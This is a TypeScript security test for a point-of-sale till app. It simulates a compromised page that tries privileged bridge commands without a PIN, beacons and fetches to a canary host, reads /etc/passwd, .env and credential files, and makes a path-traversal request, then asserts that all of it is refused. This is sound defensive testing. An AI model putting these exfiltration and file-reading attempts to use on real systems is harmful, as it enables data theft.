/** A page that was taken over: in real Chromium, in the terminal's own page, any script tries everything the bridge offers. */
import { readFileSync } from "node:fs";
import { createServer as createHttpServer } from "node:http";
import { type AddressInfo, createServer } from "node:net";
import path from "node:path";
import type { Command, Reply, Snapshot } from "../../preload/contract.ts";
import { commands } from "../every-command.ts";
import { ownPrinterPort } from "./stage/cash-drawer.ts";
import { expect, test } from "./stage/shop.ts";
import type { TillPage } from "./stage/till-page.ts";

/** What it does to whoever runs the terminal, and shows nothing: PINs are tried elsewhere, and cost time here. */
const leftOut: readonly Command["type"][] = ["set_manager_pin", "sign_in", "change_pin", "reset_manager", "get_day"];
const cashScreens = ["payable", "opening", "counting", "drawer", "done"];

interface Seen {
  readonly replies: Readonly<Record<string, Reply>>;
  readonly screens: readonly string[];
  readonly text: string;
}

/** Each command with the step of whatever screen is in front, and every screen that came of it. */
const tryAll = (till: TillPage, wanted: readonly Command[]): Promise<Seen> =>
  till.page.evaluate(async (list) => {
    let latest: Snapshot | null = null;
    let text = "";
    const screens: string[] = [];
    const session = { authorization: `Bearer ${localStorage.getItem("till-session")}` };
    const leaving = new AbortController();
    const events = await fetch("/bridge/events", { headers: session, signal: leaving.signal });
    const listen = async (): Promise<void> => {
      const reader = events.body?.pipeThrough(new TextDecoderStream()).getReader();
      for (let rest = ""; reader !== undefined; ) {
        const { done, value } = await reader.read();
        if (done) return;
        const parts = (rest + value).split("\n\n");
        rest = parts.pop() ?? "";
        for (const data of parts.filter((part) => part.startsWith("data: "))) {
          latest = JSON.parse(data.slice("data: ".length)) as Snapshot;
          screens.push(latest.screen.kind);
          text += data;
        }
      }
    };
    listen().catch(() => undefined);
    while (latest === null) await new Promise((resolve) => setTimeout(resolve, 20));
    const replies: Record<string, Reply> = {};
    for (const command of list) {
      const step = (latest as Snapshot).screen.step;
      const body = JSON.stringify("step" in command ? { ...command, step } : command);
      const headers = { ...session, "content-type": "application/json" };
      const answer = await fetch("/bridge/dispatch", { method: "POST", headers, body });
      replies[command.type] = (await answer.json()) as Reply;
      await new Promise((resolve) => setTimeout(resolve, 40));
    }
    leaving.abort();
    text += JSON.stringify([
      replies,
      { ...localStorage },
      { ...sessionStorage },
      document.cookie,
      document.body.innerHTML,
    ]);
    return { replies, screens, text };
  }, wanted);

/** Everything but naming another address to go to, which an ordinary browser forbids no page. */
const sendOut = (till: TillPage, canary: string): Promise<string> =>
  till.page.evaluate(async (to) => {
    const said: string[] = [];
    const quietly = async (what: () => unknown): Promise<void> => {
      try {
        said.push(String(await what()));
      } catch {
        said.push("refused");
      }
    };
    const element = (tag: string, fields: Record<string, string>): void =>
      document.body.append(Object.assign(document.createElement(tag), fields));
    await quietly(() => fetch(to, { mode: "no-cors" }));
    await quietly(() => fetch("file:///etc/passwd").then((answer) => answer.text()));
    await quietly(() => navigator.sendBeacon(to, "secret"));
    await quietly(() => new WebSocket(to.replace("http", "ws")));
    await quietly(() => new EventSource(to));
    await quietly(() => import(`${to}/x.js`));
    await quietly(() => new Worker(`${to}/w.js`));
    await quietly(() => new Worker(URL.createObjectURL(new Blob([`fetch("${to}")`]))));
    await quietly(() => navigator.serviceWorker.register(`${to}/sw.js`));
    // biome-ignore lint/security/noGlobalEval: what a page that was taken over would do
    await quietly(() => eval("1 + 1"));
    await quietly(() => element("img", { src: to }));
    await quietly(() => element("script", { src: to }));
    await quietly(() => element("link", { rel: "stylesheet", href: to }));
    await quietly(() => element("iframe", { src: to }));
    await quietly(() => element("object", { data: to }));
    await quietly(() => element("video", { src: to }));
    await quietly(() => {
      const form = Object.assign(document.createElement("form"), { action: to, method: "post" });
      document.body.append(form);
      form.submit();
    });
    for (const file of ["/credential.json", "/journal.db", "/people.json", "/..%2fmain%2findex.js", "/.env"])
      await quietly(async () => {
        const answer = await fetch(file);
        return answer.ok ? `${file}: ${await answer.text()}` : "refused";
      });
    await new Promise((resolve) => setTimeout(resolve, 500));
    return said.join("\n");
  }, canary);

test("no cash, no drawer, no key, no other address, no file", async ({ openShop }) => {
  const shop = await openShop({ throughProxy: true });
  const till = await shop.openTill();
  await till.shows("ready");
  const key = path.join(shop.folder, "till", "credential.json");
  const kept = readFileSync(key, "utf8");
  let [requests, kicks] = [0, 0];
  const canary = createHttpServer((_, answer) => {
    requests += 1;
    answer.end();
  });
  canary.on("upgrade", (_, socket) => {
    requests += 1;
    socket.destroy();
  });
  canary.listen(0, "127.0.0.1");
  const at = ownPrinterPort();
  const printer = createServer((socket) => {
    kicks += 1;
    socket.destroy();
  }).listen(at.port, at.host);

  await test.step("with nobody's PIN, on an idle terminal", async () => {
    const pulse = { pin: 2, onMs: 50, offMs: 250 } as const;
    const { settings } = commands.change_settings;
    const drawer = { kind: "network", ...at, sensor: false, pulse } as const;
    const paper = { model: "generic", columns: 42, codePage: "auto", receipts: "customer" } as const;
    const all: readonly Command[] = Object.values(commands).filter(({ type }) => !leftOut.includes(type));
    const { replies, screens, text } = await tryAll(till, [
      ...all,
      { ...commands.change_settings, settings: { ...settings, drawer } },
      // What is tried goes along with the command, and is asked at once.
      { type: "test_printer", printer: { kind: "network", ...at, ...paper } },
      { type: "test_drawer", drawer },
    ]);
    expect(screens.filter((kind) => cashScreens.includes(kind))).toEqual([]);
    for (const type of [
      "enroll",
      "enroll_by_code",
      "change_settings",
      "test_drawer",
      "test_printer",
      "find_printers",
      "decide_withdrawal",
      "save_person",
    ])
      expect([type, replies[type]]).toEqual([type, { ok: false, code: "manager_needed" }]);
    expect(text).not.toContain("till-secret");
  });

  await test.step("with a customer's withdrawal that nobody has approved", async () => {
    const { transaction_id: id } = await shop.bank.request("50.00");
    const scan: Command = { ...commands.scan, text: id };
    const { hand_out, not_handed_out, open_drawer, dismiss, resume, confirm, decide_withdrawal } = commands;
    await tryAll(till, [scan]);
    await till.shows("review");
    const { screens } = await tryAll(till, [confirm, hand_out, open_drawer, not_handed_out, resume, dismiss]);
    expect(screens.filter((kind) => cashScreens.includes(kind))).toEqual([]);
    await till.shows("approval");
    const more = await tryAll(till, [hand_out, decide_withdrawal, open_drawer, hand_out]);
    expect(more.screens.filter((kind) => cashScreens.includes(kind))).toEqual([]);
    expect(["awaiting_sca", "ready"]).toContain((await shop.bank.read(id)).status);
  });

  const said = await sendOut(till, `http://127.0.0.1:${(canary.address() as AddressInfo).port}`);
  expect(said).not.toMatch(/root:|"secret"|SQLite|"pin"/);
  expect([requests, kicks, readFileSync(key, "utf8") === kept]).toEqual([0, 0, true]);
  canary.close();
  printer.close();
});
